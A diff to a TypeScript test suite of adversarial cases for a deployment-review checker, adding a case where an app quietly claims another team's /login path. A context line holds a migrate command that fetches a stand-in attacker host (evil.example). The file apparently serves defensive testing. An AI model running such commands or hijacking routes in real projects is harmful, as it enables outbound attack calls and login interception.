@@ -3,10 +3,14 @@ import type { Attack } from '../estate.ts'
 
 const host = { host: 'bank' }
 
+/** An app of another team on the host, which lets this one have its help pages there. */
+const shared = { ...spec, team: 'finance', expose: { ...host, accepts: ['shop/web'] } }
+const help = { host: 'bank', accepts: ['finance/ledger'] }
+
 /**
  * Words of a spec whose manifests `check` takes: the review has to say what they do, at a level that somebody reads.
  */
-const rows: readonly (readonly [name: string, rule: string, more: object])[] = [
+const rows: readonly (readonly [name: string, rule: string, more: object, before?: object, beside?: object])[] = [
   [
     'leads people who sign in to a host of its own',
     'requests',
@@ -33,14 +37,22 @@ const rows: readonly (readonly [name: string, rule: string, more: object])[] = [
     'starts',
     { expose: host, migrate: { command: ['node', '-e', 'fetch("https://evil.example")'] } },
   ],
+  [
+    'takes /login of another team, where it may have its help pages',
+    'host-claim',
+    { expose: { ...help, path: ['/help', '/login'] } },
+    { expose: { ...help, path: '/help' } },
+    shared,
+  ],
 ]
 
 export default rows.map(
-  ([name, rule, more]): Attack => ({
+  ([name, rule, more, before = { expose: host }, beside]): Attack => ({
     name: `${name}, as a change without a risk`,
     why: 'an approver reads levels, and the words themselves are cut short where they are long',
     async run(estate) {
-      estate.put('apps/web/app.ts', { ...spec, expose: host })
+      if (beside !== undefined) estate.put('apps/ledger/app.ts', beside)
+      estate.put('apps/web/app.ts', { ...spec, ...before })
       await estate.gen()
       estate.commit('a host')
       estate.put('apps/web/app.ts', { ...spec, ...more })
